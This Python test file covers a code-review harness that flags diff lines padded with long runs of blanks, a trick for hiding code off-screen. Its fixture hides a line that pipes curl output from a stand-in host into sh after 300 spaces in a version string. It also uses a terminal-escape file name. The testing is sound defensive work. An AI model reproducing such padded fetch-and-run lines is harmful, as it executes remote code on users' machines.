"""The harness counts the lines of a diff a person must read whole (very long, or padded
with blanks), says them in its own words, and every surface shows the same count."""

from __future__ import annotations

import difflib

import pytest

from common.schemas.checkpoint import DiffExcerpt, IssueClosureCheckpoint
from common.schemas.long_lines import LongLine, LongLines
from common.workspace import long_lines
from common.workspace.diff_text import diff_lines, review_diff
from common.workspace.long_lines import BLANK_RUN, INDENT_RUN, LONG_LINE, find, marked_runs
from common.workspace.render import render_checkpoint
from tests.tui import samples

PAYLOAD = '; __import__("os").system("curl -s x.example | sh")'
PADDED = '__version__ = "0.2.0"' + " " * 300 + PAYLOAD


def one_file(*body: str, header: str = "@@ -10,3 +10,4 @@ def main():") -> str:
    """A diff of ``core.py`` with ``body`` as its hunk's lines."""
    lines = ["diff --git a/core.py b/core.py", "--- a/core.py", "+++ b/core.py", header, *body]
    return "\n".join(lines) + "\n"


def closure_with(diff: str, **context: object) -> IssueClosureCheckpoint:
    base = samples.issue_closure()
    assert isinstance(base, IssueClosureCheckpoint)
    update = {"diff": diff, **context}
    return base.model_copy(update={"context": base.context.model_copy(update=update)})


def test_the_padded_version_line_is_flagged_in_the_harnesss_words() -> None:
    assert len(PADDED) == 372
    found = find(one_file(" a", " b", f"+{PADDED}", " c"))
    assert found == LongLines(
        lines=[LongLine(path="core.py", line=12, length=372, blank_run=300, run_of="spaces")],
        total=1,
    )
    assert long_lines.flag_text(found.lines[0]) == (
        "core.py line 12: 372 characters, 300 of them spaces in a row"
    )


@pytest.mark.parametrize(
    ("content", "flagged"),
    [
        ("x" * LONG_LINE, False),
        ("x" * (LONG_LINE + 1), True),
        ("a" + " " * (BLANK_RUN - 1) + "b", False),
        ("a" + " " * BLANK_RUN + "b", True),
        ("a" + " " * BLANK_RUN, True),  # trailing
        (" " * (INDENT_RUN - 1) + "code()", False),  # deep, but an indentation
        (" " * INDENT_RUN + "code()", True),
    ],
    ids=["200", "201", "run-19", "run-20", "trailing-20", "indent-59", "indent-60"],
)
def test_the_thresholds(content: str, flagged: bool) -> None:
    assert find(one_file(f"+{content}")).total == int(flagged)


@pytest.mark.parametrize(
    ("run", "kind"),
    [
        ("\t" * 25, "tabs"),
        ("\u00a0" * 25, "blanks"),
        (" \t" * 15, "blanks"),
        ("\u2800" * 25, "blanks"),
    ],
    ids=["tabs", "nbsp", "mixed", "braille-blank"],
)
def test_every_blank_counts_and_is_named(run: str, kind: str) -> None:
    (line,) = find(one_file(f"+x = 1{run}# hidden")).lines
    assert (line.blank_run, line.run_of) == (len(run), kind)


def test_removed_lines_count_with_their_old_number_and_context_lines_do_not() -> None:
    found = find(one_file(f" {PADDED}", f"-{PADDED}", "+short", header="@@ -20,2 +30,2 @@"))
    assert [(item.line, item.removed) for item in found.lines] == [(21, True)]
    assert long_lines.flag_text(found.lines[0]).startswith("core.py line 21 (removed): 372")


def test_numbers_follow_the_hunks_and_files() -> None:
    diff = one_file("+a", f"+{'y' * 250}", header="@@ -0,0 +1,2 @@") + one_file(
        " keep", f"+{'z' * 250}", header="@@ -5,1 +7,2 @@"
    ).replace("core.py", "lib/other.py")
    assert [(item.path, item.line) for item in find(diff).lines] == [
        ("core.py", 2),
        ("lib/other.py", 8),
    ]


def test_a_combined_diff_counts_the_merge_results_lines() -> None:
    diff = (
        "diff --cc core.py\nindex 1,2..0\n--- a/core.py\n+++ b/core.py\n"
        f"@@@ -1,1 -1,1 +1,2 @@@\n  same\n++{PADDED}\n"
    )
    (line,) = find(diff).lines
    assert (line.path, line.line, line.length) == ("core.py", 2, 372)


def test_difflibs_files_one_after_another_are_told_apart() -> None:
    """enrichment_scope's diffs: ``--- issue-3.md`` headers after a hunk, no ``diff --git``."""
    first = difflib.unified_diff(["a\n"], ["a\n", f"{'w' * 230}\n"], "issue-3.md", "issue-3.md")
    second = difflib.unified_diff(["b\n"], [f"b{' ' * 40}c\n"], "issue-4.md", "issue-4.md")
    found = find("".join(first) + "".join(second))
    assert [(item.path, item.line) for item in found.lines] == [
        ("issue-3.md", 2),
        ("issue-4.md", 1),
    ]


def test_a_hostile_file_name_is_escaped_in_the_flag() -> None:
    diff = one_file(f"+{PADDED}").replace("core.py", "co\x1b[2Jre\u202e.py")
    assert find(diff).lines[0].path == "co\\x1b[2Jre<U+202E>.py"


def test_many_flagged_lines_are_listed_up_to_a_screenful_and_counted() -> None:
    found = find(one_file(*(f"+{'x' * 300}" for _ in range(25)), header="@@ -0,0 +1,25 @@"))
    assert (len(found.lines), found.total) == (long_lines.LISTED, 25)
    assert long_lines.flag_lines(found)[-1] == "  … and 5 more"


def test_marked_runs_are_where_the_blanks_are() -> None:
    content = " " * 4 + "x = 1" + " " * 25 + "y" + " " * 3
    assert marked_runs(content) == [(9, 34)]
    assert marked_runs(" " * 70 + "z") == [(0, 70)]


def test_harness_checkpoint_says_them_and_the_full_diff_too() -> None:
    checkpoint = closure_with(one_file(f"+{PADDED}"))
    text = render_checkpoint(checkpoint, agent="agent_1")
    assert "⚠ 1 line of the diff to read whole (over 200 characters or 20+ blanks" in text
    assert "  core.py line 10: 372 characters, 300 of them spaces in a row" in text
    full = diff_lines(checkpoint)
    assert full[1].startswith("⚠ 1 line of the diff to read whole")
    assert f"+{PADDED}" in "\n".join(full)  # the diff itself stays as git wrote it


def test_the_checkpoints_own_count_wins_over_the_stored_text() -> None:
    """The agent counts the whole diff: a padded line past the cut is still told."""
    past_the_cut = LongLines(
        lines=[LongLine(path="late.py", line=900, length=400, blank_run=350)], total=1
    )
    checkpoint = closure_with(one_file("+short"), diff_long_lines=past_the_cut, diff_cut_at=5)
    review = review_diff(checkpoint)
    assert review is not None and review.long_lines == past_the_cut
    assert "  late.py line 900: 400 characters, 350 of them spaces in a row" in review.flags()
    written_before = closure_with(one_file(f"+{PADDED}"))  # no count stored: counted here
    assert written_before.context.diff_long_lines is None
    counted = review_diff(written_before)
    assert counted is not None and counted.long_lines.total == 1


def test_a_regression_or_mr_diff_carries_its_count() -> None:
    bare = samples.mr_review()
    excerpt = DiffExcerpt(
        stat="1 file changed",
        text=one_file(f"+{PADDED}"),
        range="main...HEAD",
        long_lines=find(one_file(f"+{PADDED}")),
    )
    checkpoint = bare.model_copy(
        update={"context": bare.context.model_copy(update={"diff": excerpt})}
    )
    assert "core.py line 10: 372 characters" in render_checkpoint(checkpoint)
